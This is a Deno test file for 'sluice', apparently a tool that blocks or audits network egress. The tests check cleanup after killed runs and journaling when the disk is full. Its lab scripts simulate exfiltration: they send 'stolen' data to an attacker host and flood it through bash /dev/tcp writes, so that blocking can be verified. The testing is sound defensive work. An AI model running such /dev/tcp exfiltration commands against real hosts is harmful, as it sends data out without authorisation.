import assert from "node:assert/strict";
import type { AgentEvent } from "../../agent/record/event.ts";
import { readJournal } from "../../agent/record/read.ts";
import { Lab } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { waitUntil } from "../lab/wait.ts";
import { Cell, RUN_TIMEOUT_MS } from "./cell.ts";
import {
  assertGone,
  cgroupsOf,
  footprint,
  isEnded,
  isGone,
  withoutJournals,
} from "./leftovers.ts";
import { runGuarded, sendLine, startRun, stateOf } from "./lab_run.ts";

const ATTACKER = ADDRESSES.attacker.ipv4;
/** What is executed would be written beside what is counted here. */
const NETWORK = ["--watch", "network"];

Deno.test("killing sluice run with -9 leaves the command's processes refused, and the next run clears up", async () => {
  await using lab = await Lab.up();
  const before = await footprintOf(lab);
  await using capture = await lab.capture(`host ${ATTACKER}`);
  const script = `echo ready; until [ -e go ]; do sleep 0.02; done
    start=$(date +%s%N); ${sendLine("stolen")}; code=$?
    echo $code $(( ($(date +%s%N) - start) / 1000000 )) > result
    curl -sS -m 5 -o /dev/null https://allowed.test/; echo $? > allowed
    exec sleep 60`;
  await using sluice = await startRun(lab, {
    command: ["setsid", "bash", "-c", script],
    allow: ["allowed.test"],
  });
  await sluice.waitFor("ready");
  Deno.kill(sluice.pid, "SIGKILL");
  // A packet that finds its queues still open is lost with them.
  await waitUntil(() => isEnded(sluice.pid), { what: "the end of the agent" });
  const [cgroup] = await cgroupsOf(sluice.pid);
  assert.ok(cgroup !== undefined);
  await Deno.writeTextFile(`${lab.directory}/go`, "");
  const [code, milliseconds] = (await written(lab, "result")).split(" ");
  console.log(`refused after ${milliseconds} ms`);
  assert.equal(code, "1");
  // TCP tries again after a second: what was refused was the first try.
  assert.ok(Number(milliseconds) < 1_000);
  // Closed is closed: nobody is there to say what may pass.
  assert.notEqual(await written(lab, "allowed"), "0");
  assert.match(await footprintOf(lab), /SLUICE/);

  const left = await Deno.readTextFile(`${cgroup}/cgroup.procs`);
  assert.notEqual(left, "");
  const next = await runGuarded(lab, {
    command: [
      ...["curl", "-sS", "https://allowed.test/"],
    ],
    allow: ["allowed.test"],
  });
  assert.equal(next.code, 0, next.stderr);
  assert.match(next.stderr, /^sluice \(block\): 1 endpoint: 1 allowed$/m);
  assert.doesNotMatch(next.stderr, /warning|cannot|error|!/i);
  assert.deepEqual(await cgroupsOf(sluice.pid), []);
  for (const pid of left.trim().split("\n")) {
    await waitUntil(() => isGone(pid), { what: `the end of ${pid}` });
  }
  assert.equal(await footprintOf(lab), before);
  assert.deepEqual(await capture.stop(), []);
  // Its journal says from when to when nobody watched.
  const journal = `${stateOf(lab)}/run-${sluice.pid}/journal.ndjson`;
  const { events, problems } = readJournal(await Deno.readTextFile(journal));
  assert.deepEqual(problems, []);
  const [lost] = events.filter((event) =>
    event.kind === "agent" && event.event === "coverage_lost"
  ) as AgentEvent[];
  assert.ok(lost?.from !== undefined && lost.to !== undefined);
  assert.ok(lost.from < lost.to);
});

Deno.test("killing sluice run with -9 in audit mode leaves the command as it is", async () => {
  await using lab = await Lab.up();
  const before = await footprintOf(lab);
  const script = `echo ready; until [ -e go ]; do sleep 0.02; done
    ${sendLine("in-audit")}; echo $? > result; exec sleep 60`;
  await using sluice = await startRun(lab, {
    command: ["setsid", "bash", "-c", script],
    egress: "audit",
  });
  await sluice.waitFor("ready");
  Deno.kill(sluice.pid, "SIGKILL");
  await Deno.writeTextFile(`${lab.directory}/go`, "");
  assert.equal(await written(lab, "result"), "0");
  await lab.attacker.waitFor("in-audit");
  const next = await runGuarded(lab, { command: ["true"], egress: "audit" });
  assert.match(next.stderr, /^sluice \(audit\): nothing contacted$/m);
  assert.deepEqual(await cgroupsOf(sluice.pid), []);
  assert.equal(await footprintOf(lab), before);
});

// From before libc is loaded to after the command was started.
const DELAYS_MS = [60, 90, 120, 150, 180, 210, 240, 270, 300, 350];

for (const delayMs of DELAYS_MS) {
  Deno.test(`sluice run that is told to end after ${delayMs} ms leaves nothing behind`, async () => {
    await using cell = await Cell.open();
    const before = await cell.footprint();
    await using sluice = cell.startSluice([
      ...["run", "--egress", "block", "--", "sleep", "60"],
    ]);
    await new Promise((resolve) => setTimeout(resolve, delayMs));
    Deno.kill(sluice.pid, "SIGTERM");
    const { code, stderr } = await sluice.finished(RUN_TIMEOUT_MS);
    assert.equal(code, 143, stderr);
    await assertGone(sluice.pid);
    assert.equal(withoutJournals(await cell.footprint()), before);
  });
}

Deno.test("sluice run answers packets when the journal's disk is full, and counts what it could not write", async () => {
  await using lab = await Lab.up();
  const small = `${lab.directory}/small`;
  await using _mount = await mountSmall(lab, small);
  // More than a summary lists, and than 64 KiB of journal hold.
  const flood = `for i in $(seq 400); do
      printf x > /dev/tcp/${ATTACKER}/$((1000 + i))
    done 2>/dev/null
    curl -sS https://allowed.test/`;
  const { code, stdout, stderr } = await runGuarded(lab, {
    command: [
      ...["bash", "-c", flood],
    ],
    allow: ["allowed.test"],
    more: [...NETWORK, "--journal", `${small}/journal.ndjson`],
  });
  assert.equal(code, 0, stderr);
  assert.match(stdout, /^site allowed\.test /);
  const [, lost] = /Warning: (\d+) events are missing/.exec(stderr) ?? [];
  const { events, problems } = readJournal(
    (await lab.in("run", ["cat", `${small}/journal.ndjson`])).stdout,
  );
  assert.deepEqual(problems, []);
  // The 400; two questions and the connection of curl; armed and stopped.
  assert.equal(events.length + Number(lost), 400 + 3 + 2, stderr);
});

Deno.test("sluice run fails the job when its policy says so and the journal could not take all", async () => {
  await using lab = await Lab.up();
  const small = `${lab.directory}/small`;
  await using _mount = await mountSmall(lab, small);
  const path = `${lab.directory}/policy.yaml`;
  await Deno.writeTextFile(
    path,
    "version: 1\negress: block\non: { denied: fail }\n",
  );
  // The page that the journal has begun takes the first of the allowed, and
  // nothing the one refusal that would count.
  const script = `head -c 1M /dev/zero > ${small}/fill
    for i in $(seq 40); do : > /dev/tcp/203.0.113.10/80; done
    ${sendLine("stolen")}
    true`;
  const { code, stderr } = await runGuarded(lab, {
    command: ["bash", "-c", script],
    allow: ["203.0.113.10:80"],
    more: ["--policy", path, "--journal", `${small}/journal.ndjson`],
  });
  assert.doesNotMatch(stderr, / 4444 +tcp /);
  assert.match(stderr, /Warning: \d+ events are missing/);
  assert.equal(code, 4, stderr);
});

for (const egress of ["block", "audit"] as const) {
  Deno.test(`a run that was killed with -9 in ${egress} is cleared up once, whoever has its place by then`, async () => {
    await using lab = await Lab.up();
    await using dead = await startRun(lab, {
      command: ["sh", "-c", "echo ready; sleep 60"],
      egress,
    });
    await dead.waitFor("ready");
    Deno.kill(dead.pid, "SIGKILL");
    const script = `echo ready; until [ -e go ]; do sleep 0.02; done
      ${sendLine("stolen")}; echo $? > result`;
    await using alive = await startRun(lab, ["bash", "-c", script]);
    await alive.waitFor("ready");
    // This one finds the dead one's directory again.
    const third = await runGuarded(lab, ["true"]);
    assert.equal(third.code, 0, third.stderr);
    await Deno.writeTextFile(`${lab.directory}/go`, "");
    assert.equal(await written(lab, "result"), "1");
    await alive.finished(RUN_TIMEOUT_MS);
  });
}

Deno.test("a run that was killed with -9 does not stop the next one when its journal is gone", async () => {
  await using lab = await Lab.up();
  const gone = `${lab.directory}/gone`;
  await Deno.mkdir(gone);
  await using dead = await startRun(lab, {
    command: ["sh", "-c", "echo ready; sleep 60"],
    more: ["--journal", `${gone}/journal.ndjson`],
  });
  await dead.waitFor("ready");
  Deno.kill(dead.pid, "SIGKILL");
  await Deno.remove(gone, { recursive: true });
  const { code, stderr } = await runGuarded(lab, ["true"]);
  assert.equal(code, 0, stderr);
  assert.match(stderr, /Warning: Cannot write the journal/);
  assert.deepEqual(await cgroupsOf(dead.pid), []);
});

/** A file system of 64 KiB in the mount namespace that commands run in. */
async function mountSmall(lab: Lab, path: string): Promise<AsyncDisposable> {
  await Deno.mkdir(path);
  const mount = ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", path];
  const { code, stderr } = await lab.in("run", mount);
  assert.equal(code, 0, stderr);
  return {
    async [Symbol.asyncDispose]() {
      await lab.in("run", ["umount", path]);
    },
  };
}

async function written(lab: Lab, name: string): Promise<string> {
  const path = `${lab.directory}/${name}`;
  let text = "";
  await waitUntil(async () => {
    text = await Deno.readTextFile(path).catch(() => "");
    return text.endsWith("\n");
  }, { what: path, timeoutMs: 20_000 });
  return text.trim();
}

async function footprintOf(lab: Lab): Promise<string> {
  const all = await footprint((args) => lab.in("run", args), stateOf(lab));
  return withoutJournals(all);
}
